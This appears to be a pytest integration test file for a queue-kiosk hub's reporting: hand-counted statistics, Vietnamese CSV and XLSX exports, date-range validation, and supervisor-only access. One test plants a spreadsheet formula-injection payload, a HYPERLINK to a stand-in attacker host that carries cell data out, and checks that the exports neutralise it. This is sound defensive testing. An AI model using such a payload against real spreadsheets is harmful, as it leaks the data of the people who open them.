"""Reports against a scripted morning whose figures are counted by hand
(tests/integration/report_day.py), on SQLite and on PostgreSQL; the CSV and
XLSX files read back as a supervisor would open them."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
from datetime import timedelta

import pytest
import requests
from openpyxl import load_workbook
from sqlalchemy import text

from kiosk.reporting.labels import COLUMNS
from kiosk.usecases import reports
from tests.integration.report_day import DAY, SUPERVISOR, script_day


def rows_by(summary: dict, section: str) -> dict:
    return {row["key"]: row for row in summary[section]}


@pytest.fixture
def day(database_url):
    ctx = script_day(database_url)
    yield ctx
    ctx.store.dispose()


def test_the_mornings_figures_match_the_hand_count(day):
    summary = reports.summary(day, DAY, DAY)
    total = summary["totals"]
    assert {k: total[k] for k in ("issued", "called", "served", "no_show", "cancelled")} == {
        "issued": 5,  # A001 A002 B001 A003 A004: a transfer is not a new ticket
        "called": 5,
        "served": 3,
        "no_show": 1,
        "cancelled": 1,
    }
    assert total["transferred"] == 1
    # waits 180 600 720 780 900: median 720, p90 = 780 + 0.6 × 120
    assert total["wait_s"] == {"mean": 636.0, "median": 720.0, "p90": 852.0}
    # service 240 300 600: p90 = 300 + 0.8 × 300
    assert total["service_s"] == {"mean": 380.0, "median": 300.0, "p90": 540.0}
    # HT's 10-minute target: A001 (exactly 600 s) and A004 within; A002 and B001 not; DD has none
    assert (total["within_target"], total["target_n"], total["within_target_share"]) == (2, 4, 0.5)
    assert total["ratings"]["scores"] == {"1": 0, "2": 1, "3": 0, "4": 1, "5": 1}
    assert total["ratings"]["satisfied_share"] == 0.6667
    assert total["ratings"]["reasons"] == {"waiting_time": 1}

    fields = rows_by(summary, "by_service")
    ht, dd = fields["HT"], fields["DD"]
    assert (ht["issued"], ht["called"], ht["served"], ht["cancelled"]) == (4, 4, 3, 1)
    assert ht["wait_s"] == {"mean": 570.0, "median": 660.0, "p90": 762.0}
    assert (dd["issued"], dd["transferred"], dd["served"]) == (1, 1, 0)
    assert dd["wait_s"]["median"] == 900.0 and dd["within_target_share"] is None
    assert fields["TKQ"]["issued"] == 0  # a field with no visitors still shows, with zeros

    counters = rows_by(summary, "by_counter")
    one, two = counters[1], counters[2]
    assert (one["called"], one["served"], one["transferred"]) == (3, 2, 1)
    assert one["service_s"] == {"mean": 270.0, "median": 270.0, "p90": 294.0}
    assert one["ratings"]["satisfied_share"] == 1.0
    assert (two["called"], two["served"], two["no_show"]) == (2, 1, 1)
    assert two["wait_s"] == {"mean": 750.0, "median": 750.0, "p90": 774.0}
    assert two["ratings"]["reasons"] == {"waiting_time": 1}
    assert 3 not in counters  # a counter that called nobody is left out

    clerks = rows_by(summary, "by_clerk")
    assert set(clerks) == {"clerk1", "clerk2"}
    assert clerks["clerk1"]["name"] == "Nguyễn Văn An"
    assert clerks["clerk1"]["served"] == 2 and clerks["clerk2"]["ratings"]["rated"] == 1

    hours = rows_by(summary, "by_hour")
    assert list(hours) == [7, 8, 9]
    assert [hours[h]["issued"] for h in (7, 8, 9)] == [3, 1, 1]
    assert hours[8]["cancelled"] == 1 and hours[7]["name"] == "07:00–08:00"


def test_a_day_without_visitors_reports_zeros(day):
    summary = reports.summary(day, DAY + timedelta(days=1), DAY + timedelta(days=7))
    assert summary["totals"]["issued"] == 0
    assert summary["totals"]["wait_s"]["median"] is None
    assert summary["by_hour"] == [] and summary["by_clerk"] == []


def test_bad_ranges_are_refused_in_words():
    today = DAY
    assert reports.parse_range(None, None, today) == (today, today)
    assert reports.parse_range("2025-03-01", None, today)[1].isoformat() == "2025-03-01"
    for first, last, code in [
        ("2025-03-10", "2025-03-01", "report_range_reversed"),
        ("2024-01-01", "2025-06-01", "report_range_too_long"),
        ("10/03/2025", None, "invalid_report_day"),
        ("0001-01-01", None, "invalid_report_day"),
    ]:
        with pytest.raises(Exception) as caught:
            reports.parse_range(first, last, today)
        assert caught.value.code == code


@pytest.fixture
def report_hub(hub_factory, tmp_path):
    """A real hub on the scripted day's database."""
    ctx = script_day(f"sqlite:///{tmp_path / 'hub.db'}")
    ctx.store.dispose()
    return hub_factory()


def test_csv_and_xlsx_open_with_vietnamese_intact(report_hub):
    hub = report_hub
    staff = hub.session(*SUPERVISOR)
    query = {"from": DAY.isoformat(), "to": DAY.isoformat()}
    at = {key: 2 + i for i, key in enumerate(c.key for c in COLUMNS)}  # after grouping, name

    response = staff.get(f"{hub.url}/api/v1/reports/summary.csv", params=query, timeout=30)
    assert response.status_code == 200 and response.headers["Content-Type"].startswith("text/csv")
    assert "attachment" in response.headers["Content-Disposition"]
    assert response.content.startswith(b"\xef\xbb\xbf")  # the BOM LibreOffice needs for UTF-8
    table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert "Vắng mặt" in table[1]  # headers in Vietnamese: "No-show"
    rows = {r[1]: r for r in table[2:]}
    an = rows["Nguyễn Văn An"]  # the clerk's name, diacritics intact
    assert an[at["served"]] == "2" and an[at["satisfied"]] == "1.0"
    ht = rows["Tư pháp - Hộ tịch"]
    assert ht[at["wait_median"]] == "11.0"  # 660 s in minutes
    assert ht[at["within_target"]] == "0.5"
    assert rows["Quầy 2"][at["reasons"]] == "Thời gian chờ: 1"  # the reason's code, in words

    response = staff.get(f"{hub.url}/api/v1/reports/summary.xlsx", params=query, timeout=30)
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    assert len(book.sheetnames) == 5  # summary, fields, counters, clerks, hours
    clerks = book.worksheets[3]
    names = {row[0].value: row for row in clerks.iter_rows(min_row=3)}
    an = names["Nguyễn Văn An"]
    assert an[at["served"] - 1].value == 2
    assert an[at["satisfied"] - 1].value == 1.0
    assert an[at["satisfied"] - 1].number_format == "0.0%"
    total = [c.value for c in book.worksheets[0][3]]
    assert total[at["wait_median"] - 1] == 12.0  # 720 s
    assert total[at["issued"] - 1] == 5

    english = staff.get(
        f"{hub.url}/api/v1/reports/summary.xlsx", params={**query, "lang": "en"}, timeout=30
    )
    assert load_workbook(io.BytesIO(english.content)).sheetnames == [
        "Summary",
        "Fields",
        "Counters",
        "Clerks",
        "Hours",
    ]


def test_csv_content_type_names_its_charset_once(report_hub):
    staff = report_hub.session(*SUPERVISOR)
    response = staff.get(f"{report_hub.url}/api/v1/reports/summary.csv", timeout=30)
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"


def test_names_and_reasons_never_become_formulas_in_the_files(report_hub, tmp_path):
    """Names come from admins and reasons from citizens (older ratings could hold any text)."""
    hub = report_hub
    link = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    with sqlite3.connect(tmp_path / "hub.db") as db:
        db.execute("UPDATE services SET name = ? WHERE code = 'HT'", (link,))
        db.execute("UPDATE counters SET name = '+SUM(1,2)' WHERE number = 2")
        db.execute("UPDATE users SET display_name = '=1+2' WHERE username = 'clerk1'")
        db.execute("UPDATE ratings SET reasons = ? WHERE score = 2", (json.dumps([link]),))
    staff = hub.session(*SUPERVISOR)
    query = {"from": DAY.isoformat(), "to": DAY.isoformat()}

    book = load_workbook(
        io.BytesIO(
            staff.get(f"{hub.url}/api/v1/reports/summary.xlsx", params=query, timeout=30).content
        )
    )
    formulas = [
        f"{sheet.title}!{c.coordinate}: {c.value}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for c in row
        if c.data_type == "f"
    ]
    assert not formulas
    fields, counters, clerks = book.worksheets[1], book.worksheets[2], book.worksheets[3]
    assert link in [c.value for c in fields["A"]]
    assert "+SUM(1,2)" in [c.value for c in counters["A"]]
    assert "=1+2" in [c.value for c in clerks["A"]]
    reasons = [c.value for row in fields.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(v.startswith(link) for v in reasons)  # shown as the text it is

    table = list(
        csv.reader(
            io.StringIO(
                staff.get(
                    f"{hub.url}/api/v1/reports/summary.csv", params=query, timeout=30
                ).content.decode("utf-8-sig")
            )
        )
    )
    texts = [value for row in table for value in row]
    assert not [v for v in texts if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + link in texts and "'+SUM(1,2)" in texts and "'=1+2" in texts


def test_reports_page_is_for_supervisors_and_shows_the_day(report_hub):
    hub = report_hub
    anonymous = requests.get(f"{hub.url}/reports", allow_redirects=False, timeout=10)
    assert anonymous.status_code == 302 and "/login" in anonymous.headers["Location"]
    clerk = hub.session("clerk1", "test-clerk-pass")
    assert clerk.get(f"{hub.url}/reports", timeout=10).status_code == 403
    assert clerk.get(f"{hub.url}/api/v1/reports/summary", timeout=10).status_code == 403

    staff = hub.session(*SUPERVISOR)
    page = staff.get(f"{hub.url}/reports", params={"from": "2025-03-10", "to": "2025-03-10"})
    assert page.status_code == 200
    text = page.text
    assert "Nguyễn Văn An" in text and "Tư pháp - Hộ tịch" in text
    assert text.count("<svg") == 3  # charts drawn by the hub, no script needed
    tiles = dict(re.findall(r'id="tile-(\w[\w-]*)"><span class="value">([^<]+)<', text))
    assert tiles["issued"] == "5" and tiles["within"] == "50,0%" and tiles["wait"] == "12,0"
    assert "summary.xlsx?from=2025-03-10" in text

    wrong = staff.get(f"{hub.url}/reports", params={"from": "2025-03-10", "to": "2025-03-01"})
    assert wrong.status_code == 400 and 'class="error-banner"' in wrong.text


def test_a_counter_numbered_beyond_the_usual_range_keeps_its_figures(tmp_path):
    ctx = script_day(f"sqlite:///{tmp_path / 'odd.db'}")
    with ctx.store.write() as session:  # e.g. a centre that numbers counters by room: 12345
        session.execute(text("UPDATE tickets SET counter_number = 12345 WHERE counter_number = 2"))
    counters = rows_by(reports.summary(ctx, DAY, DAY), "by_counter")
    assert (counters[12345]["called"], counters[12345]["no_show"]) == (2, 1)
    assert counters[12345]["wait_s"]["median"] == 750.0
    ctx.store.dispose()
